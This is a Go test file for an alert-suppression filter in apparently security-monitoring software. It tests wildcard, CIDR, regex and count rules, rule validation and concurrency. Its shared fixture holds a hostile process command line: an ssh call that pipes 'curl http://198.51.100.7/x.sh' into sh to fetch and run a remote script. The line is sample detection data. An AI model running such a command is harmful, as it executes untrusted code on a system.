package processor

import (
	"regexp"
	"strings"
	"sync"
	"testing"
)

// filterResult is a result with every by-field set; tests override fields.
func filterResult(mod func(*Result)) *Result {
	r := &Result{
		AlertID: "a1",
		Key: GroupKey{
			Dest:              "web-01.example.com",
			User:              "deploy",
			ParentProcessName: "bash",
			ProcessName:       "ssh",
			Process:           "ssh -oStrictHostKeyChecking=no admin@10.0.0.5 'curl http://198.51.100.7/x.sh | sh'",
			ProcessID:         "4242",
			ParentProcessID:   "4200",
		},
		Count: 3,
	}
	if mod != nil {
		mod(r)
	}
	return r
}

func TestFilterSuppress(t *testing.T) {
	tests := []struct {
		name     string
		rules    []Rule
		result   *Result
		wantRule string // "" means not suppressed
	}{
		{"no rules suppress nothing", nil, filterResult(nil), ""},
		{"regex within the first MaxRegexInput bytes", []Rule{{Name: "r", ProcessRegex: `needle`}},
			filterResult(func(r *Result) { r.Key.Process = "ssh needle " + strings.Repeat("x", 200_000) }), "r"},
		{"regex never reads past MaxRegexInput bytes", []Rule{{Name: "r", ProcessRegex: `needle`}},
			filterResult(func(r *Result) { r.Key.Process = strings.Repeat("x", MaxRegexInput) + "needle" }), ""},
		{"exact match ignores case", []Rule{{Name: "r", Dest: []string{"WEB-01.Example.COM"}}}, filterResult(nil), "r"},
		{"exact pattern is not a substring test", []Rule{{Name: "r", Dest: []string{"web-01"}}}, filterResult(nil), ""},
		{"prefix wildcard", []Rule{{Name: "r", Dest: []string{"web-*"}}}, filterResult(nil), "r"},
		{"suffix wildcard", []Rule{{Name: "r", Dest: []string{"*.example.com"}}}, filterResult(nil), "r"},
		{"substring wildcard", []Rule{{Name: "r", Process: []string{"*HTTP://198.51.100.7/*"}}}, filterResult(nil), "r"},
		{"inner wildcards in order", []Rule{{Name: "r", Process: []string{"ssh *admin@*curl*sh'"}}}, filterResult(nil), "r"},
		{"inner wildcards out of order", []Rule{{Name: "r", Process: []string{"ssh *curl*admin@*"}}}, filterResult(nil), ""},
		{"wildcard parts must not overlap", []Rule{{Name: "r", User: []string{"dep*ploy"}}}, filterResult(nil), ""},
		{"lone star matches anything", []Rule{{Name: "r", ParentProcessID: []string{"*"}}}, filterResult(nil), "r"},
		{"lone star matches null", []Rule{{Name: "r", User: []string{"*"}}}, filterResult(func(r *Result) { r.Key.User = Null }), "r"},
		{"null pattern matches a missing field", []Rule{{Name: "r", User: []string{"NULL"}}},
			filterResult(func(r *Result) { r.Key.User = Null }), "r"},
		{"null pattern does not match a present field", []Rule{{Name: "r", User: []string{"null"}}}, filterResult(nil), ""},
		{"any pattern of a field", []Rule{{Name: "r", User: []string{"root", "svc_*", "deploy"}}}, filterResult(nil), "r"},
		{"all conditions must hold", []Rule{{Name: "r", User: []string{"deploy"}, ParentProcessName: []string{"python*"}}}, filterResult(nil), ""},
		{"all conditions hold", []Rule{{Name: "r", User: []string{"deploy"}, ParentProcessName: []string{"bash"},
			ProcessName: []string{"ssh"}, ProcessID: []string{"4242"}, ParentProcessID: []string{"42*"}}}, filterResult(nil), "r"},
		{"cidr v4 inside", []Rule{{Name: "r", DestCIDR: []string{"10.20.0.0/16"}}},
			filterResult(func(r *Result) { r.Key.Dest = "10.20.3.4" }), "r"},
		{"cidr v4 outside", []Rule{{Name: "r", DestCIDR: []string{"10.20.0.0/16"}}},
			filterResult(func(r *Result) { r.Key.Dest = "10.21.3.4" }), ""},
		{"cidr with host bits set is masked", []Rule{{Name: "r", DestCIDR: []string{"10.20.9.9/16"}}},
			filterResult(func(r *Result) { r.Key.Dest = "10.20.3.4" }), "r"},
		{"cidr v6 inside", []Rule{{Name: "r", DestCIDR: []string{"2001:db8::/32"}}},
			filterResult(func(r *Result) { r.Key.Dest = "2001:DB8:1::7" }), "r"},
		{"cidr v6 outside", []Rule{{Name: "r", DestCIDR: []string{"2001:db8::/32"}}},
			filterResult(func(r *Result) { r.Key.Dest = "2001:db9::7" }), ""},
		{"cidr v4 matches ipv4-mapped dest", []Rule{{Name: "r", DestCIDR: []string{"192.0.2.0/24"}}},
			filterResult(func(r *Result) { r.Key.Dest = "::ffff:192.0.2.10" }), "r"},
		{"cidr any prefix", []Rule{{Name: "r", DestCIDR: []string{"10.0.0.0/8", "192.168.0.0/16"}}},
			filterResult(func(r *Result) { r.Key.Dest = "192.168.1.1" }), "r"},
		{"cidr never matches a host name", []Rule{{Name: "r", DestCIDR: []string{"0.0.0.0/0", "::/0"}}}, filterResult(nil), ""},
		{"cidr never matches null", []Rule{{Name: "r", DestCIDR: []string{"0.0.0.0/0"}}},
			filterResult(func(r *Result) { r.Key.Dest = Null }), ""},
		{"regex matches anywhere", []Rule{{Name: "r", ProcessRegex: `https?://198\.51\.100\.\d+/`}}, filterResult(nil), "r"},
		{"regex is case-sensitive", []Rule{{Name: "r", ProcessRegex: `CURL`}}, filterResult(nil), ""},
		{"regex with (?i)", []Rule{{Name: "r", ProcessRegex: `(?i)CURL`}}, filterResult(nil), "r"},
		{"regex anchored miss", []Rule{{Name: "r", ProcessRegex: `^curl`}}, filterResult(nil), ""},
		{"min count reached", []Rule{{Name: "r", MinCount: 3}}, filterResult(nil), "r"},
		{"min count not reached", []Rule{{Name: "r", MinCount: 4}}, filterResult(nil), ""},
		{"max count respected", []Rule{{Name: "r", MaxCount: 3}}, filterResult(nil), "r"},
		{"max count exceeded", []Rule{{Name: "r", MaxCount: 2}}, filterResult(nil), ""},
		{"count range with pattern", []Rule{{Name: "r", User: []string{"deploy"}, MinCount: 1, MaxCount: 5}}, filterResult(nil), "r"},
		{"count range fails the rule", []Rule{{Name: "r", User: []string{"deploy"}, MinCount: 10, MaxCount: 50}}, filterResult(nil), ""},
		{"first holding rule wins", []Rule{
			{Name: "miss", User: []string{"root"}},
			{Name: "hit", User: []string{"deploy"}},
			{Name: "also", Dest: []string{"web-*"}},
		}, filterResult(nil), "hit"},
		{"default name is the position", []Rule{{User: []string{"root"}}, {User: []string{"deploy"}}}, filterResult(nil), "rules[1]"},
		{"no rule holds", []Rule{{Name: "a", User: []string{"root"}}, {Name: "b", Dest: []string{"db-*"}}}, filterResult(nil), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, err := NewFilter(tt.rules)
			if err != nil {
				t.Fatalf("NewFilter: %v", err)
			}
			rule, ok := f.Suppress(tt.result)
			if ok != (tt.wantRule != "") || rule != tt.wantRule {
				t.Fatalf("Suppress = (%q, %v), want (%q, %v)", rule, ok, tt.wantRule, tt.wantRule != "")
			}
		})
	}
}

func TestFilterErrors(t *testing.T) {
	tests := []struct {
		name  string
		rules []Rule
		want  []string // substrings of the error
	}{
		{"rule without condition", []Rule{{Name: "empty"}}, []string{`rules[0] "empty"`, "no condition"}},
		{"unnamed rule without condition", []Rule{{User: []string{"x"}}, {}}, []string{`rules[1] "rules[1]"`, "no condition"}},
		{"bad cidr", []Rule{{Name: "net", DestCIDR: []string{"10.0.0/8"}}}, []string{`rules[0] "net"`, "dest_cidr[0]", `"10.0.0/8"`}},
		{"ipv4-mapped cidr", []Rule{{Name: "net", DestCIDR: []string{"::ffff:10.0.0.0/104"}}}, []string{"dest_cidr[0]", "IPv4-mapped"}},
		{"bad regex", []Rule{{Name: "re", ProcessRegex: "curl(("}}, []string{`rules[0] "re"`, "process_regex", `"curl(("`}},
		{"empty pattern", []Rule{{Name: "p", User: []string{"root", ""}}}, []string{`rules[0] "p"`, "user[1]", "empty pattern"}},
		{"negative min", []Rule{{Name: "c", MinCount: -1}}, []string{"min_count", "-1"}},
		{"negative max", []Rule{{Name: "c", MaxCount: -2}}, []string{"max_count", "-2"}},
		{"min above max", []Rule{{Name: "c", MinCount: 5, MaxCount: 2}}, []string{"min_count 5", "max_count 2"}},
		{"duplicate names", []Rule{{Name: "x", User: []string{"a"}}, {Name: "x", User: []string{"b"}}}, []string{`rules[1] "x"`, "rules[0]"}},
		{"every error reported", []Rule{{Name: "a"}, {Name: "b", DestCIDR: []string{"nope"}}}, []string{`rules[0] "a"`, `rules[1] "b"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, err := NewFilter(tt.rules)
			if err == nil {
				t.Fatalf("NewFilter succeeded with %d rules, want error", f.Len())
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not contain %q", err, w)
				}
			}
		})
	}
}

func TestFilterNilAndNames(t *testing.T) {
	var nilFilter *Filter
	if rule, ok := nilFilter.Suppress(filterResult(nil)); ok {
		t.Fatalf("nil filter suppressed by %q", rule)
	}
	f, err := NewFilter([]Rule{{Name: " ansible ", User: []string{"svc_ansible"}}, {User: []string{"root"}}})
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Join(f.RuleNames(), ",")
	if got != "ansible,rules[1]" || f.Len() != 2 {
		t.Fatalf("RuleNames = %q, Len = %d", got, f.Len())
	}
}

// The filter is shared by every partition worker.
func TestFilterConcurrentUse(t *testing.T) {
	f, err := NewFilter([]Rule{{Name: "web", Dest: []string{"web-*"}, DestCIDR: nil}, {Name: "net", DestCIDR: []string{"10.0.0.0/8"}}})
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	errs := make(chan string, 8)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				web := filterResult(nil)
				ip := filterResult(func(r *Result) { r.Key.Dest = "10.1.2.3" })
				if rule, _ := f.Suppress(web); rule != "web" {
					errs <- "web: " + rule
					return
				}
				if rule, _ := f.Suppress(ip); rule != "net" {
					errs <- "net: " + rule
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
}

// FuzzFilterPattern checks the glob matcher against an equivalent regular
// expression: case-insensitive, `*` as .*, anchored at both ends.
func FuzzFilterPattern(f *testing.F) {
	f.Add("web-*", "WEB-01")
	f.Add("*curl*", "ssh host curl http://x")
	f.Add("a*b*a", "aba")
	f.Add("a*a", "a")
	f.Add("**", "")
	f.Add("null", "NULL")
	f.Add("İ*", "i̇x")
	f.Fuzz(func(t *testing.T, pat, value string) {
		if pat == "" {
			return
		}
		parts := strings.Split(strings.ToLower(pat), "*")
		for i := range parts {
			parts[i] = regexp.QuoteMeta(parts[i])
		}
		ref := regexp.MustCompile(`(?s)^` + strings.Join(parts, ".*") + `$`)
		lower := strings.ToLower(value)
		want := ref.MatchString(lower)
		got := compilePattern(pat).match(lower)
		if got != want {
			t.Fatalf("pattern %q value %q: match = %v, regexp says %v", pat, value, got, want)
		}
	})
}
